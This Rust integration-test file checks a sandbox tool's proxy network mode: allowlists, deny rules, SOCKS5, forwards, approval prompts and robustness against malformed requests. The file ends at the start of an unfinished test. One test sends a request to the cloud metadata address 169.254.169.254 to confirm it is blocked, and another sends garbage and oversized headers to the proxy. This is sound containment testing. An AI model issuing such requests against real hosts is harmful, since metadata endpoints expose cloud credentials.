//! `proxy` network mode, end to end: real cells, servers started here on 127.0.0.1.
//!
//! The cell has its own network namespace, so these servers (on the host's loopback) are
//! reachable from inside ONLY through the supervisor's proxy or a declared forward —
//! which is what these tests check. Fixed answers for test names come from `[network]
//! resolve` (like curl's --resolve) plus an explicit address rule for 127.0.0.1.
//!
//! The Rust client inside the cell is this test binary itself, run in "probe" mode (the
//! `probe` test below does nothing unless TASKCELL_NETPROBE is set).

mod common;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{Shutdown, TcpListener, TcpStream, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

use common::*;

const BODY: &str = "hello from the test server";

/// The test process serves hundreds of connections at once: lift its soft fd limit.
fn raise_nofile() {
    // SAFETY: getrlimit/setrlimit on a struct we own.
    unsafe {
        let mut r = libc::rlimit {
            rlim_cur: 0,
            rlim_max: 0,
        };
        if libc::getrlimit(libc::RLIMIT_NOFILE, &mut r) == 0 && r.rlim_cur < r.rlim_max {
            r.rlim_cur = r.rlim_max;
            libc::setrlimit(libc::RLIMIT_NOFILE, &r);
        }
    }
}

/// Accept loop that backs off on errors (EMFILE) instead of spinning.
fn accept(l: &TcpListener) -> TcpStream {
    loop {
        match l.accept() {
            Ok((c, _)) => return c,
            Err(_) => std::thread::sleep(Duration::from_millis(20)),
        }
    }
}

/// An HTTP server on 127.0.0.1 answering every request with BODY.
fn http_server() -> u16 {
    raise_nofile();
    let l = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = l.local_addr().expect("addr").port();
    std::thread::spawn(move || loop {
        let mut c = accept(&l);
        std::thread::spawn(move || {
            let mut buf = Vec::new();
            let mut b = [0u8; 1024];
            while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
                match c.read(&mut b) {
                    Ok(0) | Err(_) => return,
                    Ok(n) => buf.extend_from_slice(&b[..n]),
                }
            }
            let first = String::from_utf8_lossy(&buf);
            let line = first.lines().next().unwrap_or("").to_string();
            let body = format!("{BODY}\nrequest: {line}\n");
            let _ = c.write_all(
                format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                )
                .as_bytes(),
            );
        });
    });
    port
}

/// An echo server on 127.0.0.1.
fn echo_server() -> u16 {
    raise_nofile();
    let l = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = l.local_addr().expect("addr").port();
    std::thread::spawn(move || loop {
        let c = accept(&l);
        {
            std::thread::spawn(move || {
                let mut r = c.try_clone().expect("clone");
                let mut w = c;
                let _ = std::io::copy(&mut r, &mut w);
                let _ = w.shutdown(Shutdown::Write);
            });
        }
    });
    port
}

/// Write a proxy-mode profile and return its path: outside the workspace, since tests
/// rewrite it between runs (a profile inside the workspace is pinned at its first run,
/// and a change is refused until `taskcell trust`).
fn profile(ws: &Ws, network: &str) -> String {
    let p = ws.outside("net.toml");
    std::fs::write(
        &p,
        format!("extends = \"build\"\n\n[network]\nmode = \"proxy\"\n{network}\n"),
    )
    .expect("write profile");
    p.display().to_string()
}

/// The usual test network: `example.test` → 127.0.0.1, allowed on `port`.
fn allow(port: u16) -> String {
    format!(
        "allow = [\"example.test:{port}\", \"127.0.0.1:{port}\"]\nresolve = {{ \"example.test\" = \"127.0.0.1\" }}\n"
    )
}

fn me() -> String {
    std::env::current_exe()
        .expect("current_exe")
        .display()
        .to_string()
}

/// Run the probe (this binary) in a cell with `mode` and `args`.
fn probe_in_cell(ws: &Ws, prof: &str, mode: &str, args: &str) -> std::process::Output {
    let exe = me();
    let env_mode = format!("TASKCELL_NETPROBE={mode}");
    let env_args = format!("TASKCELL_NETPROBE_ARGS={args}");
    taskcell(
        ws.path(),
        &[
            "run",
            "-p",
            prof,
            "--read",
            &exe,
            "-e",
            &env_mode,
            "-e",
            &env_args,
            "--",
            &exe,
            "--exact",
            "probe",
            "--nocapture",
            "--test-threads=1",
            "-q",
        ],
    )
    .output()
    .expect("running taskcell")
}

fn probe_lines(o: &std::process::Output) -> Vec<String> {
    stdout(o)
        .lines()
        .filter_map(|l| l.strip_prefix("PROBE: ").map(str::to_string))
        .collect()
}

// ---------------------------------------------------------------- probe (runs in cells)

fn proxy_addr() -> String {
    std::env::var("TASKCELL_PROXY").unwrap_or_else(|_| "127.0.0.1:3128".into())
}

fn read_all(s: &mut TcpStream) -> String {
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    String::from_utf8_lossy(&out).into_owned()
}

/// Open a CONNECT tunnel; returns the stream after the 200 head.
fn tunnel(target: &str) -> TcpStream {
    let mut s = TcpStream::connect(proxy_addr()).expect("connect to proxy");
    write!(s, "CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").expect("write");
    let mut head = Vec::new();
    let mut b = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        assert_eq!(s.read(&mut b).expect("read head"), 1, "proxy closed early");
        head.push(b[0]);
    }
    let h = String::from_utf8_lossy(&head);
    assert!(h.starts_with("HTTP/1.1 200"), "CONNECT {target}: {h}");
    s
}

fn ping(s: &mut TcpStream, msg: &[u8]) {
    s.write_all(msg).expect("write");
    let mut back = vec![0u8; msg.len()];
    s.read_exact(&mut back).expect("echo");
    assert_eq!(back, msg);
}

fn wait_for(p: &Path) {
    while !p.exists() {
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn probe() {
    let Ok(mode) = std::env::var("TASKCELL_NETPROBE") else {
        return;
    };
    let args = std::env::var("TASKCELL_NETPROBE_ARGS").unwrap_or_default();
    let a: Vec<&str> = args.split(' ').collect();
    match mode.as_str() {
        // A plain HTTP GET through the proxy (absolute form).
        "get" => {
            let mut s = TcpStream::connect(proxy_addr()).expect("connect to proxy");
            write!(
                s,
                "GET http://{}/rust HTTP/1.1\r\nHost: {}\r\n\r\n",
                a[0], a[0]
            )
            .expect("w");
            let r = read_all(&mut s);
            println!("PROBE: {}", r.lines().next().unwrap_or(""));
            println!("PROBE: {}", r.lines().last().unwrap_or(""));
        }
        // A direct connection and a UDP datagram that bypass the proxy.
        "direct" => {
            match TcpStream::connect_timeout(&a[0].parse().expect("addr"), Duration::from_secs(5)) {
                Ok(_) => println!("PROBE: direct connected"),
                Err(e) => println!("PROBE: direct failed: {e}"),
            }
            let u = UdpSocket::bind("0.0.0.0:0").expect("udp bind");
            let _ = u.send_to(b"\x12\x34query", a[1]);
            u.set_read_timeout(Some(Duration::from_millis(500)))
                .expect("timeout");
            let mut b = [0u8; 64];
            match u.recv_from(&mut b) {
                Ok(_) => println!("PROBE: udp answered"),
                Err(_) => println!("PROBE: udp no answer"),
            }
        }
        // N sequential tunnels to an echo server; pauses (files in the workspace) after a
        // warm-up and at the end so the test can measure the supervisor.
        "many" => {
            let n: usize = a[1].parse().expect("n");
            let ws = Path::new(a[2]);
            for _ in 0..200 {
                ping(&mut tunnel(a[0]), b"warm");
            }
            std::fs::write(ws.join("phase1"), "").expect("phase1");
            wait_for(&ws.join("go1"));
            for i in 0..n {
                ping(&mut tunnel(a[0]), format!("ping {i}").as_bytes());
            }
            std::fs::write(ws.join("phase2"), "").expect("phase2");
            wait_for(&ws.join("go2"));
            println!("PROBE: many ok {n}");
        }
        // N tunnels open at the same time.
        "concurrent" => {
            let n: usize = a[1].parse().expect("n");
            let mut v: Vec<TcpStream> = (0..n).map(|_| tunnel(a[0])).collect();
            for (i, s) in v.iter_mut().enumerate() {
                ping(s, format!("tunnel {i}").as_bytes());
            }
            println!("PROBE: concurrent ok {}", v.len());
        }
        // Misbehaving clients, then a good request.
        "malformed" => {
            let send = |bytes: &[u8]| -> String {
                let mut s = TcpStream::connect(proxy_addr()).expect("connect");
                let _ = s.write_all(bytes);
                let _ = s.shutdown(Shutdown::Write);
                let r = read_all(&mut s);
                r.lines().next().unwrap_or("(closed)").to_string()
            };
            println!(
                "PROBE: garbage {}",
                send(b"\x00\xff\x16\x03\x01 hello\r\n\r\n")
            );
            println!(
                "PROBE: relative {}",
                send(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
            );
            println!(
                "PROBE: noport {}",
                send(b"CONNECT example.test HTTP/1.1\r\n\r\n")
            );
            let mut many = b"GET http://example.test/ HTTP/1.1\r\n".to_vec();
            for i in 0..200 {
                many.extend_from_slice(format!("X-H{i}: v\r\n").as_bytes());
            }
            many.extend_from_slice(b"\r\n");
            println!("PROBE: headers {}", send(&many));
            let mut big = b"GET http://example.test/ HTTP/1.1\r\nX: ".to_vec();
            big.resize(64 * 1024, b'a');
            println!("PROBE: big {}", send(&big));
            println!("PROBE: truncated {}", send(b"GET http://exa"));
            // A client that sends half a head and stays: the proxy keeps serving others.
            let mut stuck = TcpStream::connect(proxy_addr()).expect("connect");
            stuck.write_all(b"CONNECT exam").expect("w");
            let mut s = TcpStream::connect(proxy_addr()).expect("connect");
            write!(s, "GET http://{}/after HTTP/1.1\r\n\r\n", a[0]).expect("w");
            println!(
                "PROBE: after {}",
                read_all(&mut s).lines().next().unwrap_or("")
            );
            drop(stuck);
        }
        // Idle and half-open clients are closed by the proxy (idle_timeout is short here).
        "idle" => {
            let mut t = tunnel(a[0]);
            ping(&mut t, b"before idling");
            t.set_read_timeout(Some(Duration::from_secs(120)))
                .expect("timeout");
            let mut b = [0u8; 16];
            println!(
                "PROBE: idle tunnel read {:?}",
                t.read(&mut b).map_err(|e| e.kind())
            );
            let mut half = TcpStream::connect(proxy_addr()).expect("connect");
            half.write_all(b"CONNECT exam").expect("w");
            half.set_read_timeout(Some(Duration::from_secs(120)))
                .expect("timeout");
            println!(
                "PROBE: half head read {:?}",
                half.read(&mut b).map_err(|e| e.kind())
            );
            // The proxy still serves.
            ping(&mut tunnel(a[0]), b"still serving");
            println!("PROBE: still serving");
        }
        other => panic!("unknown probe mode {other}"),
    }
}

// ---------------------------------------------------------------- tests

#[test]
fn allowed_host_through_http_proxy_curl_and_rust() {
    let port = http_server();
    let ws = Ws::new();
    let prof = profile(&ws, &allow(port));
    // curl with the proxy from the environment (absolute form), and with -p (CONNECT).
    let out = ok(&sh(
        ws.path(),
        &prof,
        &[],
        &format!(
            "curl -sS http://example.test:{port}/plain && curl -sS -p http://example.test:{port}/tunnel && echo \"$HTTP_PROXY $https_proxy $npm_config_proxy\""
        ),
    ));
    assert!(
        out.contains(&format!("{BODY}\nrequest: GET /plain HTTP/1.1")),
        "{out}"
    );
    assert!(
        out.contains(&format!("{BODY}\nrequest: GET /tunnel HTTP/1.1")),
        "{out}"
    );
    assert!(
        out.contains("http://127.0.0.1:3128 http://127.0.0.1:3128 http://127.0.0.1:3128"),
        "{out}"
    );
    // The Rust client (this binary as a probe).
    let o = probe_in_cell(&ws, &prof, "get", &format!("example.test:{port}"));
    let lines = probe_lines(&o);
    assert_eq!(
        lines.first().map(String::as_str),
        Some("HTTP/1.1 200 OK"),
        "{o:?}"
    );
    assert_eq!(
        lines.get(1).map(String::as_str),
        Some("request: GET /rust HTTP/1.1"),
        "{o:?}"
    );
}

#[test]
fn taskcell_connect_is_an_ssh_proxy_command() {
    let port = echo_server();
    let ws = Ws::new();
    let prof = profile(&ws, &allow(port));
    let out = ok(&sh(
        ws.path(),
        &prof,
        &[],
        &format!("printf 'through the tunnel' | /run/taskcell/taskcell connect example.test {port}; echo; echo \"$GIT_SSH_COMMAND\""),
    ));
    assert!(out.starts_with("through the tunnel\n"), "{out}");
    assert!(
        out.contains("ProxyCommand='/run/taskcell/taskcell connect %h %p'"),
        "{out}"
    );
    // The binary is read-only inside.
    let o = sh(ws.path(), &prof, &[], "echo x > /run/taskcell/taskcell");
    assert!(!o.status.success());
}

#[test]
fn allowed_host_through_socks5() {
    let port = http_server();
    let ws = Ws::new();
    // The rules from the command line this time.
    let prof = profile(&ws, "");
    let a1 = format!("example.test:{port}");
    let a2 = format!("127.0.0.1:{port}");
    let flags = [
        "--allow",
        a1.as_str(),
        "--allow",
        a2.as_str(),
        "--resolve",
        "example.test:127.0.0.1",
    ];
    let out = ok(&sh(
        ws.path(),
        &prof,
        &flags,
        &format!("curl -sS --noproxy '' --socks5-hostname 127.0.0.1:1080 http://example.test:{port}/socks; curl -sS -x \"$ALL_PROXY\" http://example.test:{port}/all"),
    ));
    assert!(out.contains("request: GET /socks HTTP/1.1"), "{out}");
    assert!(out.contains("request: GET /all HTTP/1.1"), "{out}");
    // Unlisted: the SOCKS reply is "not allowed by ruleset".
    let o = sh(
        ws.path(),
        &prof,
        &flags,
        &format!("curl -sS --socks5-hostname 127.0.0.1:1080 http://other.test:{port}/"),
    );
    assert!(!o.status.success());
    assert!(stderr(&o).contains("other.test"), "{}", stderr(&o));
}

#[test]
fn unlisted_and_denied_hosts_get_403_naming_the_rule() {
    let port = http_server();
    let ws = Ws::new();
    let prof = profile(
        &ws,
        &format!(
            "allow = [\"*.example.test:{port}\", \"127.0.0.1:{port}\"]\ndeny = [\"bad.example.test\"]\nresolve = {{ \"other.test\" = \"127.0.0.1\", \"ok.example.test\" = \"127.0.0.1\", \"bad.example.test\" = \"127.0.0.1\" }}\n"
        ),
    );
    let out = ok(&sh(
        ws.path(),
        &prof,
        &[],
        &format!(
            "curl -s -w ' %{{http_code}}\\n' http://other.test:{port}/; curl -s -w ' %{{http_code}}\\n' http://bad.example.test:{port}/; curl -s -w ' %{{http_code}}\\n' http://ok.example.test:{port}/; curl -s -p -w ' %{{http_code}}\\n' http://other.test:{port}/ || true"
        ),
    ));
    assert!(
        out.contains(&format!("other.test:{port} is not on the allowlist: no allow rule matches it (add `other.test:{port}` to [network] allow")),
        "{out}"
    );
    assert!(out.contains(" 403\n"), "{out}");
    assert!(
        out.contains("refused by the deny rule `bad.example.test`")
            && out.contains("net.toml line 6"),
        "{out}"
    );
    assert!(out.contains(BODY), "{out}");
}

#[test]
fn direct_connections_and_dns_bypassing_the_proxy_fail() {
    let port = http_server();
    let udp = UdpSocket::bind("127.0.0.1:0").expect("udp");
    udp.set_read_timeout(Some(Duration::from_millis(200)))
        .expect("t");
    let udp_addr = udp.local_addr().expect("addr").to_string();
    let ws = Ws::new();
    let prof = profile(&ws, &allow(port));
    // The same server, without the proxy: nothing listens on the cell's own loopback.
    let out = ok(&sh(
        ws.path(),
        &prof,
        &[],
        &format!("curl -sS --noproxy '*' http://127.0.0.1:{port}/ 2>&1; echo rc=$?; getent hosts example.test; echo getent=$?; getent hosts one.one.one.one; echo getent2=$?"),
    ));
    assert!(out.contains("rc=7"), "{out}");
    assert!(
        out.contains("getent=2") && out.contains("getent2=2"),
        "{out}"
    );
    let o = probe_in_cell(
        &ws,
        &prof,
        "direct",
        &format!("127.0.0.1:{port} {udp_addr}"),
    );
    let lines = probe_lines(&o);
    assert!(lines[0].starts_with("direct failed"), "{o:?}");
    assert_eq!(lines[1], "udp no answer", "{o:?}");
    let mut b = [0u8; 64];
    assert!(udp.recv_from(&mut b).is_err(), "a datagram left the cell");
}

#[test]
fn an_allowed_name_resolving_to_loopback_is_refused_without_an_address_rule() {
    let port = http_server();
    let ws = Ws::new();
    let prof = profile(
        &ws,
        &format!("allow = [\"example.test:{port}\", \"localhost:{port}\"]\nresolve = {{ \"example.test\" = \"127.0.0.1\" }}\n"),
    );
    let out = ok(&sh(
        ws.path(),
        &prof,
        &[],
        &format!("curl -s -w ' %{{http_code}}\\n' http://example.test:{port}/; curl -s -w ' %{{http_code}}\\n' --noproxy '' http://localhost:{port}/; curl -s -w ' %{{http_code}}\\n' http://169.254.169.254/"),
    ));
    assert!(
        out.contains(&format!("resolves to 127.0.0.1, a loopback address, which no rule names (to allow it, add `127.0.0.1:{port}`")),
        "{out}"
    );
    assert!(!out.contains(BODY), "{out}");
    assert_eq!(out.matches(" 403\n").count(), 3, "{out}");
}

#[test]
fn ask_with_an_approval_command() {
    let port = http_server();
    let ws = Ws::new();
    let log = ws.join("asked");
    let prof = profile(
        &ws,
        &format!(
            "allow = [\"127.0.0.1:{port}\"]\nresolve = {{ \"yes.test\" = \"127.0.0.1\", \"no.test\" = \"127.0.0.1\" }}\nask = true\napproval_command = [\"/bin/sh\", \"-c\", \"echo $TASKCELL_HOST:$TASKCELL_PORT:$TASKCELL_SESSION >> {}; test $TASKCELL_HOST = yes.test\"]\n",
            log.display()
        ),
    );
    let audit = ws.outside("audit.log");
    let o = taskcell(
        ws.path(),
        &[
            "run",
            "-p",
            &prof,
            "--audit-log",
            audit.to_str().expect("utf8"),
            "--",
            "/bin/sh",
            "-c",
            &format!("curl -s -w ' %{{http_code}}\\n' http://yes.test:{port}/a http://yes.test:{port}/b http://no.test:{port}/"),
        ],
    )
    .output()
    .expect("run");
    let out = ok(&o);
    assert_eq!(out.matches(BODY).count(), 2, "{out}");
    assert!(
        out.contains("no.test") && out.contains("denied by approval_command"),
        "{out}"
    );
    // Asked once for yes.test (remembered for the cell's life), once for no.test.
    let asked = std::fs::read_to_string(&log).expect("log");
    assert_eq!(asked.lines().count(), 2, "{asked}");
    assert!(asked.starts_with(&format!("yes.test:{port}:")), "{asked}");
    let audit = std::fs::read_to_string(&audit).expect("audit");
    assert!(
        audit.contains("\"decision\":\"approved by approval_command"),
        "{audit}"
    );
    assert!(audit.contains("\"bytes_down\""), "{audit}");
}

#[test]
fn ask_answered_with_taskcell_approve_and_denied_on_timeout() {
    let port = http_server();
    let ws = Ws::new();
    let rt = ws.outside("xdg");
    std::fs::create_dir(&rt).expect("mkdir");
    std::fs::set_permissions(&rt, std::fs::Permissions::from_mode(0o700)).expect("chmod");
    let prof = profile(
        &ws,
        &format!("allow = [\"127.0.0.1:{port}\"]\nresolve = {{ \"asked.test\" = \"127.0.0.1\", \"late.test\" = \"127.0.0.1\" }}\nask = true\nask_timeout = \"120s\"\n"),
    );
    let child = taskcell(
        ws.path(),
        &[
            "run",
            "-p",
            &prof,
            "--",
            "/bin/sh",
            "-c",
            &format!("curl -sS http://asked.test:{port}/approved"),
        ],
    )
    .env("XDG_RUNTIME_DIR", &rt)
    .stdout(Stdio::piped())
    .stderr(Stdio::piped())
    .spawn()
    .expect("spawn");
    // Wait until the request shows up as pending.
    let start = Instant::now();
    let session = loop {
        assert!(
            start.elapsed() < Duration::from_secs(60),
            "no pending request"
        );
        let o = taskcell(ws.path(), &["sessions"])
            .env("XDG_RUNTIME_DIR", &rt)
            .output()
            .expect("sessions");
        let s = stdout(&o);
        // `sessions` lists every session of this user (other tests' too): take the one
        // whose block holds the pending request.
        let mut current = None;
        let mut found = None;
        for l in s.lines() {
            if let Some(rest) = l.strip_prefix("session ") {
                current = rest.split('\t').next().map(str::to_string);
            } else if l.starts_with(&format!("pending asked.test:{port}\t")) {
                found = current.clone();
            }
        }
        if let Some(id) = found {
            break id;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    let o = taskcell(
        ws.path(),
        &["approve", &session, &format!("asked.test:{port}")],
    )
    .env("XDG_RUNTIME_DIR", &rt)
    .output()
    .expect("approve");
    let said = ok(&o);
    assert!(said.contains("approved"), "{said}");
    let out = child.wait_with_output().expect("wait");
    let s = ok(&out);
    assert!(s.contains("request: GET /approved"), "{s}");
    // Another user's approve would be refused by SO_PEERCRED; the socket is 0600 in a
    // 0700 directory.
    let d = std::fs::metadata(rt.join("taskcell")).expect("dir");
    assert_eq!(d.permissions().mode() & 0o777, 0o700);

    // Nobody answers: denied when the (short) timeout ends.
    let audit = ws.outside("audit.log");
    let prof = profile(
        &ws,
        &format!("allow = [\"127.0.0.1:{port}\"]\nresolve = {{ \"late.test\" = \"127.0.0.1\" }}\nask = true\nask_timeout = \"1s\"\n"),
    );
    let o = taskcell(
        ws.path(),
        &[
            "run",
            "-p",
            &prof,
            "--audit-log",
            audit.to_str().expect("utf8"),
            "--",
            "/bin/sh",
            "-c",
            &format!("curl -s -w ' %{{http_code}}' http://late.test:{port}/"),
        ],
    )
    .env("XDG_RUNTIME_DIR", &rt)
    .output()
    .expect("run");
    let out = ok(&o);
    assert!(
        out.contains("nobody approved it within 1s") && out.ends_with(" 403"),
        "{out}"
    );
}

#[test]
fn a_forward_works_and_an_undeclared_host_port_does_not() {
    let fwd = http_server();
    let other = echo_server();
    let ws = Ws::new();
    let sock = ws.join("svc.sock");
    let ul = std::os::unix::net::UnixListener::bind(&sock).expect("unix bind");
    std::fs::set_permissions(&sock, std::fs::Permissions::from_mode(0o777)).expect("chmod");
    std::thread::spawn(move || {
        for c in ul.incoming() {
            let Ok(mut c) = c else { continue };
            let _ = c.write_all(b"from the unix socket\n");
        }
    });
    let prof = profile(
        &ws,
        &format!(
            "[[network.forward]]\nlisten = 15432\nto = \"127.0.0.1:{fwd}\"\n\n[[network.forward]]\nlisten = 16000\nto = \"{}\"\n",
            sock.display()
        ),
    );
    let out = ok(&sh(
        ws.path(),
        &prof,
        &[],
        &format!(
            "curl -sS --noproxy '*' http://127.0.0.1:15432/forwarded; \
             curl -s --noproxy '*' telnet://127.0.0.1:16000 </dev/null; \
             curl -sS --noproxy '*' --max-time 5 telnet://127.0.0.1:{other} </dev/null 2>&1; echo rc=$?; \
             curl -s -w ' %{{http_code}}' --noproxy '' -x \"$HTTP_PROXY\" http://127.0.0.1:{other}/; echo"
        ),
    ));
    assert!(out.contains("request: GET /forwarded HTTP/1.1"), "{out}");
    assert!(out.contains("from the unix socket"), "{out}");
    assert!(out.contains("rc=7"), "{out}");
    assert!(
        out.contains("is not on the allowlist") && out.contains(" 403"),
        "{out}"
    );
}

#[test]
fn malformed_requests_get_400_and_the_proxy_keeps_serving() {
    let port = http_server();
    let ws = Ws::new();
    let prof = profile(&ws, &allow(port));
    let o = probe_in_cell(&ws, &prof, "malformed", &format!("example.test:{port}"));
    let l = probe_lines(&o);
    assert_eq!(l.len(), 7, "{o:?}");
    assert_eq!(l[0], "garbage HTTP/1.1 400 Bad Request");
    assert_eq!(l[1], "relative HTTP/1.1 400 Bad Request");
    assert_eq!(l[2], "noport HTTP/1.1 400 Bad Request");
    assert_eq!(l[3], "headers HTTP/1.1 431 Request Header Fields Too Large");
    assert_eq!(l[4], "big HTTP/1.1 431 Request Header Fields Too Large");
    assert_eq!(l[5], "truncated (closed)");
    assert_eq!(l[6], "after HTTP/1.1 200 OK");
}

#[test]
fn idle_and_half_open_connections_are_closed() {
    let port = echo_server();
    let ws = Ws::new();
    let prof = profile(&ws, &format!("{}idle_timeout = \"1s\"\n", allow(port)));
    let o = probe_in_cell(&ws, &prof, "idle", &format!("example.test:{port}"));
    assert_eq!(
        probe_lines(&o),
        vec![
            "idle tunnel read Ok(0)".to_string(),
            "half head read Ok(0)".to_string(),
            "still serving".to_string()
        ],
        "{o:?}"
    );
}

#[test]
fn five_hundred_concurrent_tunnels() {
    let port = echo_server();
    let ws = Ws::new();
    let prof = profile(&ws, &allow(port));
    let o = probe_in_cell(
        &ws,
        &prof,
        "concurrent",
        &format!("example.test:{port} 500"),
    );
    assert_eq!(
        probe_lines(&o),
        vec!["concurrent ok 500".to_string()],
        "{o:?}"
    );
}

/// The supervisor's open fds and RSS (KiB). The fds only as root: the supervisor is
/// non-dumpable, so its /proc/PID/fd is closed to its own (plain) user by design.
fn fds_and_rss(pid: u32) -> (Option<usize>, u64) {
    let fds = std::fs::read_dir(format!("/proc/{pid}/fd"))
        .map(|d| d.count())
        .map_err(|e| assert!(!nix::unistd::geteuid().is_root(), "fd dir: {e}"))
        .ok();
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("status");
    let rss = status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|v| v.parse().ok())
        .expect("VmRSS");
    (fds, rss)
}

#[test]
fn no_fd_or_memory_growth_across_10000_connections() {
    let port = echo_server();
    let ws = Ws::new();
    let prof = profile(&ws, &allow(port));
    let exe = me();
    let args = format!(
        "TASKCELL_NETPROBE_ARGS=example.test:{port} 10000 {}",
        ws.path().display()
    );
    let mut child = taskcell(
        ws.path(),
        &[
            "run",
            "-p",
            &prof,
            "--read",
            &exe,
            "-e",
            "TASKCELL_NETPROBE=many",
            "-e",
            &args,
            "--",
            &exe,
            "--exact",
            "probe",
            "--nocapture",
            "--test-threads=1",
            "-q",
        ],
    )
    .stdout(Stdio::piped())
    .spawn()
    .expect("spawn");
    let pid = child.id();
    // A failed assertion below must not leave the probe waiting for its next phase
    // forever (it holds the test runner's output pipe).
    struct KillOnDrop(u32);
    impl Drop for KillOnDrop {
        fn drop(&mut self) {
            let _ = nix::sys::signal::kill(
                nix::unistd::Pid::from_raw(self.0 as i32),
                nix::sys::signal::Signal::SIGKILL,
            );
        }
    }
    let guard = KillOnDrop(pid);
    let wait = |name: &str| {
        let start = Instant::now();
        while !ws.join(name).exists() {
            assert!(
                start.elapsed() < Duration::from_secs(600),
                "probe stuck before {name}"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        // Let the last connection's thread finish.
        std::thread::sleep(Duration::from_millis(300));
    };
    wait("phase1");
    let before = fds_and_rss(pid);
    std::fs::write(ws.join("go1"), "").expect("go1");
    wait("phase2");
    let after = fds_and_rss(pid);
    std::fs::write(ws.join("go2"), "").expect("go2");
    let mut out = String::new();
    BufReader::new(child.stdout.take().expect("stdout"))
        .lines()
        .map_while(Result::ok)
        .for_each(|l| {
            out.push_str(&l);
            out.push('\n');
        });
    let status = child.wait().expect("wait");
    // Reaped: its pid may be reused, so the guard must not fire any more.
    std::mem::forget(guard);
    assert!(status.success(), "{out}");
    assert!(out.contains("PROBE: many ok 10000"), "{out}");
    if let (Some(a), Some(b)) = (after.0, before.0) {
        assert!(a <= b + 2, "fds grew: {before:?} -> {after:?}");
    }
    assert!(
        after.1 <= before.1 + 16 * 1024,
        "RSS grew by more than 16 MiB: {before:?} -> {after:?}"
    );
}

#[test]
fn explain_shows_the_network_rules() {
    let ws = Ws::new();
    let prof = profile(
        &ws,
        "allow = [\"*.example.test\"]\ndeny = [\"bad.example.test\"]\nask = true\n\n[[network.forward]]\nlisten = 15432\nto = \"127.0.0.1:5432\"\n",
    );
    let out = ok(&taskcell(ws.path(), &["explain", "-p", &prof])
        .output()
        .expect("explain"));
    for want in [
        "network:   proxy",
        "allow    *.example.test",
        "deny     bad.example.test",
        "forward  127.0.0.1:15432 -> 127.0.0.1:5432",
        "ask: `taskcell approve SESSION HOST[:PORT]`",
        "HTTPS_PROXY=http://127.0.0.1:3128",
        "/run/taskcell/taskcell",
    ] {
        assert!(out.contains(want), "{want} missing:\n{out}");
    }
}

#[test]
fn profile_errors_name_the_line() {
    let ws = Ws::new();
    for (body, want) in [
        ("allow = [\"ok.test\", \"not a host\"]\n", "line 5"),
        ("resolve = { \"x.test\" = \"nope\" }\n", "line 5"),
        (
            "[[network.forward]]\nlisten = 1\nto = \"db:5432\"\n",
            "line 5",
        ),
        ("ask_timeout = \"soon\"\n", "line 5"),
    ] {
        let prof = profile(&ws, body);
        let o = taskcell(ws.path(), &["check", &prof])
            .output()
            .expect("check");
        assert!(!o.status.success(), "{body}");
        assert!(stderr(&o).contains(want), "{body}: {}", stderr(&o));
    }
}

#[test]
fn ask_on_the_launching_terminal() {
    // `script` gives taskcell a controlling terminal (a pty) whose input is typed here;
    // taskcell's own stdin is /dev/null, so the terminal is free to ask on.
    let port = http_server();
    let ws = Ws::new();
    let prof = profile(
        &ws,
        &format!("allow = [\"127.0.0.1:{port}\"]\nresolve = {{ \"yes.test\" = \"127.0.0.1\", \"no.test\" = \"127.0.0.1\" }}\nask = true\nask_timeout = \"60s\"\n"),
    );
    let cmd = format!(
        "{} run -p {prof} -- /bin/sh -c 'curl -sS http://yes.test:{port}/tty; curl -s -w \" %{{http_code}}\" http://no.test:{port}/' </dev/null",
        bin()
    );
    let mut child = std::process::Command::new("script")
        .args(["-qec", &cmd, "/dev/null"])
        .current_dir(ws.path())
        .env_clear()
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env(
            "HOME",
            std::env::var("HOME").unwrap_or_else(|_| "/nonexistent".into()),
        )
        .env("TERM", "dumb")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("script (util-linux)");
    let mut input = child.stdin.take().expect("stdin");
    let screen = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
    let mut so = child.stdout.take().expect("stdout");
    let sc = screen.clone();
    let reader = std::thread::spawn(move || {
        let mut b = [0u8; 4096];
        loop {
            match so.read(&mut b) {
                Ok(0) | Err(_) => break,
                Ok(n) => sc
                    .lock()
                    .unwrap()
                    .push_str(&String::from_utf8_lossy(&b[..n])),
            }
        }
    });
    // The answer is the code shown in the question, then a choice key; `y` Enter and a
    // terminal's reply typed first change nothing.
    let code_after = |question: &str| -> String {
        let start = std::time::Instant::now();
        loop {
            let text = screen.lock().unwrap().clone();
            if let Some(q) = text.find(question) {
                if let Some(at) = text[q..].find("? type ") {
                    let at = q + at + 7;
                    if text.len() >= at + 2 {
                        return text[at..at + 2].to_string();
                    }
                }
            }
            assert!(start.elapsed() < Duration::from_secs(20), "{text}");
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    let code = code_after("allow yes.test");
    input.write_all(b"y\n\x1b[?64;1c").expect("type");
    input
        .write_all(format!("{code}o").as_bytes())
        .expect("type");
    input.flush().expect("flush");
    let code = code_after("allow no.test");
    input
        .write_all(format!("{code}d").as_bytes())
        .expect("type");
    input.flush().expect("flush");
    reader.join().expect("reader");
    let out = screen.lock().unwrap().clone();
    drop(input);
    assert!(child.wait().expect("wait").success(), "{out}");
    assert!(out.contains("allow yes.test"), "{out}");
    assert!(out.contains("request: GET /tty"), "{out}");
    assert!(
        out.contains("denied by the terminal") && out.contains(" 403"),
        "{out}"
    );
}

#[test]
fn what_the_cell_names_is_masked_and_escaped_on_stderr_and_in_the_audit_log() {
